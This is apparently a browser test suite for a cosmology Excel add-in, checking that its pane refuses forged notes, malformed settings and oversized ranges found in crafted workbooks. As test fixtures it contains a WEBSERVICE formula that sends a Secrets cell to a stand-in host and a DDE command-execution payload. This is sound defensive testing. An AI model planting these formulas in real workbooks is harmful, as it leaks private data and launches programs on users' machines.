/**
 * The built pane against workbooks crafted as an attacker would (fake host, chromium): notes and
 * comments that name formulas of someone else's, a #NAME? formula that mixes ZC with other functions,
 * settings that are malformed, of the wrong type, huge or unphysical, thousands of stored models, a
 * whole-column reference, a recalculation that fails. Each scenario asserts what is written to the
 * sheet (nothing hostile, nothing outside the selection) and that the pane stays usable.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { callsZcFunction } from "../../functions/storedFormula.js";
import { craftedFamilies } from "../craftedFormulas.js";
import { browserAvailable, fakeState, openPane, selectCells, startPageHost, type PageHost, type PanePage } from "./pageHost.js";

type Cells = Record<string, { formula?: string; value?: unknown }>;

/** A note zcell never wrote, made to look like one. */
const crafted = (formula: string) => `Frozen by zcell 0.1.0 on 2026-12-01.\nFormula: ${formula}\nModel: P18-BAO\nValue computed under that cosmology.`;
const exfiltrate = '=WEBSERVICE("https://example.invalid/?d="&ENCODEURL(Secrets!A1))';
const dde = "=cmd|' /C calc'!A0";

/** Records the duration of every long task (50 ms or more, the Long Tasks API) in window.__longTasks; run before the page's own scripts. */
const observeLongTasks = () => {
  const w = window as unknown as { __longTasks: number[] };
  w.__longTasks = [];
  new PerformanceObserver((list) => list.getEntries().forEach((e) => w.__longTasks.push(e.duration))).observe({ type: "longtask" });
};
/** The longest task seen so far (0 when none reached 50 ms), once the pane has started and settled. */
const longestTask = async (page: PanePage) => {
  await page.locator("#apply").waitFor();
  await new Promise((r) => setTimeout(r, 300));
  return page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
};

/** 100 ZC formulas of 8,192 characters crafted to stall a formula reader (each family of test/craftedFormulas.ts that calls ZC, in turn). */
const craftedZc = craftedFamilies.map((f) => f.formula(8192)).filter(callsZcFunction);
const craftedHundred = Array.from({ length: 100 }, (_, i) => craftedZc[i % craftedZc.length]);

/** An invented sheet: two plain cells with crafted annotations, one frozen cell zcell froze, one that would spill. */
const frozenSheet = (): Record<string, Cells> => ({
  Sheet1: { A2: { value: 0.5 }, B2: { value: 2919.6 }, C2: { value: 17 }, D2: { value: 4 }, E2: { value: 9 }, F9: { value: "outside" } },
  Secrets: { A1: { value: "private" } },
});
const annotations = [
  { address: "'Sheet1'!B2", text: crafted('"=ZC.DIST_LUM(A2,\\n \\"P18-BAO; H0=73\\")"') },
  { address: "'Sheet1'!C2", text: crafted(exfiltrate) },
  { address: "'Sheet1'!D2", text: crafted(dde) },
  { address: "'Sheet1'!E2", text: crafted("=ZC.DIST_LUM(A2:A9)") },
];

describe.runIf(browserAvailable())("a crafted shared workbook against the pane", () => {
  let host: PageHost;
  beforeAll(async () => {
    host = await startPageHost();
  });
  afterAll(async () => {
    await host?.close();
  });

  for (const [carrier, excelApi] of [["notes", "1.18"], ["comments", "1.10"]] as const) {
    test(`Thaw restores only ZC formulas from ${carrier} (ExcelApi ${excelApi}), after one confirmation, only in the selection`, async () => {
      const page = await openPane(host, { settings: {}, sheets: frozenSheet(), selection: "Sheet1!B2:E2", excelApi, [carrier]: annotations });
      await page.getByRole("tab", { name: "Values" }).click();
      await page.locator("#thaw").click();
      await expect.poll(() => page.locator("#thaw-confirm-text").textContent()).toBe("Restore 1 ZC formula in the selection? 3 cells not restored, listed below.");
      expect(await page.locator("#thaw-preview li").allTextContents()).toEqual(['B2: =ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")']);
      expect(await page.locator("#thaw-refused li").allTextContents()).toEqual([
        "C2: not restored: it calls WEBSERVICE, which is not a zcell function",
        "D2: not restored: it holds a DDE link (|), which can start another program",
        "E2: not restored: it could spill over other cells (A2:A9); enter it yourself where there is room",
      ]);
      // nothing is written before the confirmation
      expect(((await fakeState(page, "sheets.Sheet1")) as Cells).B2).toEqual({ value: 2919.6 });
      await page.locator("#thaw-go").click();
      await expect.poll(() => page.locator("#thaw-status").textContent()).toMatch(/^Restored 1 cell: the ZC formulas are back/);
      const after = (await fakeState(page, "sheets")) as Record<string, Cells>;
      expect(after.Sheet1).toEqual({
        A2: { value: 0.5 },
        B2: { formula: '=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")', value: expect.any(Number) },
        C2: { value: 17 },
        D2: { value: 4 },
        E2: { value: 9 },
        F9: { value: "outside" },
      });
      expect(after.Secrets).toEqual({ A1: { value: "private" } });
      // the refused cells keep their annotations: the person can read what they claimed
      const left = (await fakeState(page, carrier)) as { address: string }[];
      expect(left.map((n) => n.address)).toEqual(["'Sheet1'!C2", "'Sheet1'!D2", "'Sheet1'!E2"]);
      expect(page.errors).toEqual([]);
      await page.close();
    });
  }

  test("Thaw and repair check references against the workbook's own sheets and Excel's sheet limits", async () => {
    const notes = [
      { address: "'Sheet1'!B2", text: crafted(JSON.stringify("=ZC.DIST_LUM(Ghost!A1)")) },
      { address: "'Sheet1'!C2", text: crafted(JSON.stringify("=ZC.DIST_LUM(XFE1)")) },
      { address: "'Sheet1'!D2", text: crafted(JSON.stringify("=ZC.DIST_LUM('\\\\server\\share\\book.xlsx'!A1)")) },
      { address: "'Sheet1'!E2", text: crafted(JSON.stringify("=ZC.DIſT_LUM(A2)")) },
      { address: "'Sheet1'!F2", text: crafted(JSON.stringify("=ZC.DIST_LUM(Secrets!A1)")) },
    ];
    const sheets = { ...frozenSheet(), Other: { A1: { formula: "=_xldudf_ZC_DIST_LUM(Ghost!A1)", value: "#NAME?" }, A2: { formula: "=_xldudf_ZC_DIST_LUM(Sheet1!A2)", value: "#NAME?" } } };
    const page = await openPane(host, { settings: {}, sheets, selection: "Sheet1!B2:F2", notes });
    await expect.poll(() => page.locator("#repair-others li").allTextContents()).toEqual(["Other!A1"]);
    expect(await page.locator("#repair-go").textContent()).toBe("Enter 1 formula again");
    await page.locator("#tab-freeze").click();
    await page.locator("#thaw").click();
    await expect.poll(() => page.locator("#thaw-confirm-text").textContent()).toBe("Restore 1 ZC formula in the selection? 4 cells not restored, listed below.");
    expect(await page.locator("#thaw-refused li").allTextContents()).toEqual([
      "B2: not restored: it refers to a sheet this workbook does not have (Ghost)",
      "C2: not restored: it uses XFE1, which lies outside Excel's sheet (XFD1048576 is the last cell), so it is a name, and a name can stand for any formula",
      "D2: not restored: it refers to another workbook or a file ('\\\\server\\share\\book.xlsx'!A1)",
      "E2: not restored: it calls ZC.DIſT_LUM, whose name is not plain ASCII, so it is not a zcell function",
    ]);
    expect(await page.locator("#thaw-preview li").allTextContents()).toEqual(["F2: =ZC.DIST_LUM(Secrets!A1)"]);
    expect(Object.keys((await fakeState(page, "sheets")) as object)).toEqual(["Sheet1", "Secrets", "Other"]);
    expect(page.errors).toEqual([]);
    await page.close();
  });

  test("Cancel on the Restore formulas confirmation writes nothing", async () => {
    const page = await openPane(host, { settings: {}, sheets: frozenSheet(), selection: "Sheet1!B2", notes: annotations });
    await page.getByRole("tab", { name: "Values" }).click();
    await page.locator("#thaw").click();
    await page.locator("#thaw-cancel").click();
    await expect.poll(() => page.locator("#thaw-status").textContent()).toBe("Nothing restored.");
    expect((await fakeState(page, "sheets")) as object).toEqual(frozenSheet());
    await page.close();
  });

  test("the repair banner re-enters only pure ZC formulas and lists the mixed one by address", async () => {
    const mixed = '=IF(ISERROR(_xldudf_ZC_VERSION()),_xldudf_ZC_VERSION(),WEBSERVICE("https://example.invalid/?d="&Secrets!A1))';
    const sheets = {
      Catalogue: { A3: { value: 0.5 }, B3: { formula: "=_xldudf_ZC_DIST_LUM(A3)", value: "#NAME?" } },
      Hidden: { Z99: { formula: mixed, value: "#NAME?" } },
      Secrets: { A1: { value: "private" } },
    };
    const page = await openPane(host, { settings: {}, sheets, selection: "Catalogue!A3" });
    await expect.poll(() => page.locator("#repair").isVisible()).toBe(true);
    expect(await page.locator("#repair-text").textContent()).toMatch(/1 formula mixes ZC with other functions or references zcell does not enter for you; check and re-enter it yourself:/);
    expect(await page.locator("#repair-others li").allTextContents()).toEqual(["Hidden!Z99"]);
    expect(await page.locator("#repair-go").textContent()).toBe("Enter 1 formula again");
    await page.locator("#repair-go").click();
    await expect.poll(() => page.locator("#repair-status").textContent()).toMatch(/^Entered 1 formula again on Catalogue \(1\)/);
    const after = (await fakeState(page, "sheets")) as Record<string, Cells>;
    expect(after.Catalogue.B3.formula).toBe("=ZC.DIST_LUM(A3)");
    expect(after.Hidden.Z99).toEqual({ formula: mixed, value: "#NAME?" });
    await page.close();
  });

  // what the settings hold | what the warning says (a fragment)
  const badSettings: [string, Record<string, unknown>, RegExp][] = [
    ["an unphysical model", { "zcell.activeModel": "H0=70; Om=0; OL=2" }, /no big bang/],
    ["malformed spec text", { "zcell.activeModel": '{"H0":' }, /could not be read/],
    ["a number", { "zcell.activeModel": 42 }, /not text/],
    ["an object", { "zcell.activeModel": { H0: 70 } }, /not text/],
    ["a 2 MB string", { "zcell.activeModel": "H".repeat(2_000_000) }, /longer than 500 characters/],
    ["models that are not a map", { "zcell.workbookModels": "TEAM=W9-ALL" }, /could not be read \(not a list of names and specs\)/],
    ["models of the wrong types", { "zcell.workbookModels": { TEAM: 7, "bad name": "W9-ALL", HUGE: "H0=1;".repeat(1000) } }, /TEAM: its spec is not text/],
  ];
  for (const [what, settings, warning] of badSettings) {
    test(`settings holding ${what}: the pane starts, says what is wrong, and a valid model can be applied`, async () => {
      const page = await openPane(host, { settings, sheets: { Sheet1: { A1: { formula: "=ZC.AGE()", value: 13.8 } } }, selection: "Sheet1!A1" });
      await expect.poll(() => page.locator("#settings-warning").textContent()).toMatch(warning);
      expect(await page.locator("#model-badge").textContent()).toBe("Workbook model: P18-CMB");
      expect(await page.locator("#preset option").count()).toBeGreaterThan(3);
      await page.selectOption("#preset", "W9-ALL");
      await page.locator("#apply").click();
      await expect.poll(() => page.locator("#apply-status").textContent()).toBe("Applied W9-ALL; 1 formula recalculated.");
      expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("W9-ALL");
      for (const tab of ["This cell", "Tables", "Values"]) {
        await page.getByRole("tab", { name: tab }).click();
        expect(await page.getByRole("tab", { name: tab }).getAttribute("aria-selected")).toBe("true");
      }
      expect(page.errors).toEqual([]);
      await page.close();
    });
  }

  test("30,000 stored models: the pane reads the first 100, says so, and starts without a long task of their own", async () => {
    const models: Record<string, string> = {};
    for (let i = 0; i < 30_000; i++) models[`M${i}`] = `P18-BAO; H0=${(60 + i / 1000).toFixed(3)}`;
    const pane = await openPane(host, { settings: { "zcell.workbookModels": models }, sheets: {} }, true, observeLongTasks);
    await expect.poll(() => pane.locator("#settings-warning").textContent()).toMatch(/only the first 100 workbook models are read; 29900 more are left out/);
    expect(await pane.locator("#preset optgroup[label='Defined in this workbook'] option").count()).toBe(100);
    const withModels = await longestTask(pane);
    await pane.close();
    // the same pane with no stored models: its start is one task of the browser's own (parsing, styles)
    const plain = await openPane(host, { settings: {}, sheets: {} }, true, observeLongTasks);
    const without = await longestTask(plain);
    await plain.close();
    console.log(`longest task while the pane starts: ${withModels.toFixed(0)} ms with 30,000 stored models, ${without.toFixed(0)} ms with none`);
    // before the cap: one 16 s task and 20 s to start (the review's measurement). What remains with the
    // models is the page building the 30,000-entry settings object itself (~100 ms here, standing for
    // Office reading the settings) and reading the first 100 (a few ms).
    expect(withModels).toBeLessThan(without + 400);
    expect(withModels).toBeLessThan(1000);
  });

  test("100 crafted #NAME? cells of 8,192 characters: the pane starts and lists them without a long task of its own", async () => {
    const cells: Cells = {};
    craftedHundred.forEach((formula, i) => (cells[`A${i + 1}`] = { formula, value: "#NAME?" }));
    const pane = await openPane(host, { settings: {}, sheets: { Crafted: cells } }, true, observeLongTasks);
    await expect.poll(() => pane.locator("#repair-text").textContent(), { timeout: 60_000 }).toMatch(/^100 ZC formulas show #NAME\? on Crafted \(100\)/);
    const shownAt = await pane.evaluate(() => performance.now());
    const withCells = await longestTask(pane);
    expect(pane.errors).toEqual([]);
    await pane.close();
    const plain = await openPane(host, { settings: {}, sheets: {} }, true, observeLongTasks);
    const without = await longestTask(plain);
    await plain.close();
    console.log(`pane start with 100 crafted #NAME? cells: banner shown ${shownAt.toFixed(0)} ms after navigation; longest task ${withCells.toFixed(0)} ms (${without.toFixed(0)} ms with none)`);
    // before the tokenizer was linear: one frozen start of 9.4 s (the review's measurement). What
    // remains beyond the plain start is mostly the page taking in 800 kB of formula text for the fake host.
    expect(withCells).toBeLessThan(without + 400);
  });

  test("Thaw over 100 crafted notes of 8,192-character formulas answers without a long task of its own", async () => {
    /** Thaw over 100 notes naming these formulas: the time to the answer and the longest task meanwhile. */
    const thawOver = async (formulas: string[]) => {
      const cells: Cells = {};
      const notes = formulas.map((formula, i) => {
        cells[`A${i + 1}`] = { value: i };
        return { address: `'Sheet1'!A${i + 1}`, text: crafted(JSON.stringify(formula)) };
      });
      const page = await openPane(host, { settings: {}, sheets: { Sheet1: cells }, selection: "Sheet1!A1:A100", notes }, true, observeLongTasks);
      await longestTask(page);
      await page.locator("#tab-freeze").click();
      await page.evaluate(() => ((window as unknown as { __longTasks: number[] }).__longTasks = []));
      const t0 = Date.now();
      await page.locator("#thaw").click();
      await expect.poll(() => page.locator("#thaw-confirm-text").textContent(), { timeout: 60_000 }).toMatch(/^Restore \d+ ZC formulas/);
      const answeredMs = Date.now() - t0;
      const text = (await page.locator("#thaw-confirm-text").textContent())!;
      const refused = await page.locator("#thaw-refused li").count();
      const longest = await page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
      expect(page.errors).toEqual([]);
      await page.close();
      return { answeredMs, longest, text, refused };
    };
    const craftedRun = await thawOver(craftedHundred);
    const [, restoring, refusedCount] = /^Restore (\d+) ZC formulas in the selection \(the first 5 below\)\? (\d+) cells not restored, listed below\.$/.exec(craftedRun.text)!;
    expect(Number(restoring) + Number(refusedCount)).toBe(100);
    expect(craftedRun.refused).toBe(Number(refusedCount));
    // the same Thaw over 100 notes of an honest formula: the pane's and the fake host's own work
    const honestRun = await thawOver(Array.from({ length: 100 }, () => "=ZC.DIST_LUM(A1)"));
    expect(honestRun.text).toBe("Restore 100 ZC formulas in the selection (the first 5 below)?");
    console.log(
      `Thaw over 100 crafted notes: answered in ${craftedRun.answeredMs} ms, longest task ${craftedRun.longest.toFixed(0)} ms ` +
        `(${restoring} restorable, ${refusedCount} refused); over 100 honest notes: ${honestRun.answeredMs} ms, longest task ${honestRun.longest.toFixed(0)} ms`,
    );
    // before the tokenizer was linear: one frozen pane of 28.8 s (the review's measurement)
    expect(craftedRun.longest).toBeLessThan(honestRun.longest + 250);
  });

  test("a stored model that parses but cannot be built (H0=1e999) is listed with its reason, cannot be chosen, and is never applied", async () => {
    const models = { GOOD: "P18-BAO; H0=70", HUGE: "P18-BAO; H0=1e999" };
    const page = await openPane(host, { settings: { "zcell.workbookModels": models }, sheets: { Sheet1: { A1: { formula: "=ZC.AGE()", value: 13.8 } } } });
    await page.locator("#apply").waitFor();
    const huge = page.locator("#preset option[value='HUGE']");
    expect(await huge.textContent()).toBe("HUGE (cannot be used)");
    expect(await huge.isDisabled()).toBe(true);
    expect(await page.locator("#preset option[value='GOOD']").isDisabled()).toBe(false);
    expect(await page.locator("#workbook-models li > span:first-child").allTextContents()).toEqual([
      "GOOD: P18-BAO; H0=70",
      "HUGE: P18-BAO; H0=1e999 — cannot be used: H0 must be a positive number km/s/Mpc; got Infinity",
    ]);
    // chosen all the same (a script, an assistive tool): the form keeps the model it shows and says why
    await page.evaluate(() => {
      const select = document.getElementById("preset") as HTMLSelectElement;
      select.value = "HUGE";
      select.dispatchEvent(new Event("change"));
    });
    expect(await page.locator("#preset").inputValue()).toBe("P18-CMB");
    expect(await page.locator("#model-error").textContent()).toBe("HUGE cannot be used: H0 must be a positive number km/s/Mpc; got Infinity. The form still shows P18-CMB.");
    await page.locator("#apply").click();
    await expect.poll(() => page.locator("#apply-status").textContent()).toBe("Applied P18-CMB; 1 formula recalculated.");
    expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("P18-CMB");
    // a usable one is chosen and applied under its own name
    await page.selectOption("#preset", "GOOD");
    expect(await page.locator("#f-H0").inputValue()).toBe("70");
    await page.locator("#apply").click();
    await expect.poll(() => page.locator("#apply-status").textContent()).toBe("Applied GOOD; 1 formula recalculated.");
    expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("GOOD");
    expect(page.errors).toEqual([]);
    await page.close();
  });

  test("the inspector does not read a whole-column reference, and says so", async () => {
    const sheets = { Sheet1: { A1: { value: 0.5 }, B1: { formula: "=ZC.DIST_LUM(A:A)", value: 2919.6 } } };
    const page = await openPane(host, { settings: {}, sheets, selection: "Sheet1!B1" });
    await page.getByRole("tab", { name: "This cell" }).click();
    await expect.poll(() => page.locator("#cell-explanation").textContent()).toMatch(/a range of 1,048,576 cells, not read \(the inspector reads at most 100,000\)/);
    const reads = (await fakeState(page, "reads")) as number[];
    expect(Math.max(0, ...reads)).toBeLessThanOrEqual(100_000);
    await page.close();
  });

  test("Replace with values asks each reference's size before reading it: a whole column and a name over 1,200,000 cells are not read", async () => {
    const sheets = {
      Sheet1: {
        A1: { value: 0.5 },
        B1: { formula: "=ZC.DIST_LUM(A:A)", value: 2919.6 },
        C1: { formula: "=ZC.DIST_LUM(BigData)", value: 2919.6 },
        D1: { formula: '=ZC.DIST_LUM(A1,"W9-ALL")', value: 2951.2 },
      },
    };
    const page = await openPane(host, { settings: {}, sheets, selection: "Sheet1!B1:D1", names: { BigData: "Sheet1!A1:B600000" } });
    await page.getByRole("tab", { name: "Values" }).click();
    await page.evaluate("window.__fake.reads.length = 0");
    await page.locator("#freeze").click();
    await expect.poll(() => page.locator("#freeze-confirm-text").textContent()).toMatch(/^Replace 3 ZC formulas by their values/);
    // before: one request of 1,048,576 cells for A:A and one of 1,200,000 for BigData
    const reads = (await fakeState(page, "reads")) as number[];
    expect(Math.max(...reads)).toBeLessThanOrEqual(100_000);
    await page.locator("#freeze-go").click();
    await expect.poll(() => page.locator("#freeze-status").textContent()).toMatch(/^Replaced 3 cells with values/);
    const notes = (await fakeState(page, "notes")) as { address: string; text: string }[];
    expect(notes.map((n) => /\nModel: (.*)/.exec(n.text)?.[1])).toEqual(["P18-CMB", "P18-CMB", "W9-ALL"]);
    expect(page.errors).toEqual([]);
    await page.close();
  });

  test("Apply counts the ZC formulas of a sheet spanning A1:XFD200 in chunks, never all at once, and says where it did not count", async () => {
    const sheets = { Big: { A1: { value: 1 }, XFD200: { value: "far" } }, Sheet1: { A1: { formula: "=ZC.AGE()", value: 13.8 } } };
    const page = await openPane(host, { settings: {}, sheets, selection: "Sheet1!A1" });
    // the repair scan at the start reads Big in chunks too: let it end first
    await expect.poll(() => page.locator("#repair-text").textContent(), { timeout: 60_000 }).toMatch(/Not every cell was looked at: Big/);
    await page.evaluate("window.__fake.reads.length = 0");
    await page.selectOption("#preset", "W9-ALL");
    await page.locator("#apply").click();
    await expect.poll(() => page.locator("#apply-status").textContent(), { timeout: 60_000 }).toBe(
      "Applied W9-ALL; the workbook recalculated (1 ZC formula counted). Not every cell was looked at: Big scanned rows 1–64 of A1:XFD200 only (the first 1,048,576 cells).",
    );
    // before: one request of 3,276,800 cells (the whole used range)
    const reads = (await fakeState(page, "reads")) as number[];
    expect(Math.max(...reads)).toBeLessThanOrEqual(50_000);
    expect(reads.reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(1_048_577);
    expect(await fakeState(page, "calculations")).toEqual(["Full"]);
    expect(page.errors).toEqual([]);
    await page.close();
  });

  test("Apply says exactly what happened when the model was stored but Excel did not recalculate", async () => {
    const page = await openPane(host, { settings: {}, sheets: {}, calculateFails: true });
    await page.selectOption("#preset", "W9-ALL");
    await page.locator("#apply").click();
    await expect.poll(() => page.locator("#apply-status").textContent()).toMatch(/^Applied W9-ALL: it is stored in the workbook, but Excel did not recalculate \(The request could not be completed \(simulated\)\.\)/);
    expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("W9-ALL");
    expect(await page.locator("#model-badge").textContent()).toBe("Workbook model: W9-ALL");
    await page.close();
  });

  test("a long repair scan can be stopped, and the pane says which sheets were not looked at", async () => {
    const big: Cells = {};
    for (let r = 1; r <= 3000; r++) big[`A${r}`] = { value: r };
    big.XFD3000 = { value: "far" };
    const page = await openPane(host, { settings: {}, sheets: { Big: big, After: { A1: { formula: "=ZC.AGE()", value: "#NAME?" } } }, syncDelayMs: 150 });
    await expect.poll(() => page.locator("#repair-cancel").isVisible(), { timeout: 20_000 }).toBe(true);
    await page.locator("#repair-cancel").click();
    await expect.poll(() => page.locator("#repair-text").textContent(), { timeout: 20_000 }).toMatch(/Not every cell was looked at: Big (scanned rows 1–\d+ of A1:XFD3000 only|not scanned) \(stopped\); After not scanned \(stopped\)\./);
    await selectCells(page, "After!A1");
    expect(page.errors).toEqual([]);
    await page.close();
  });
});

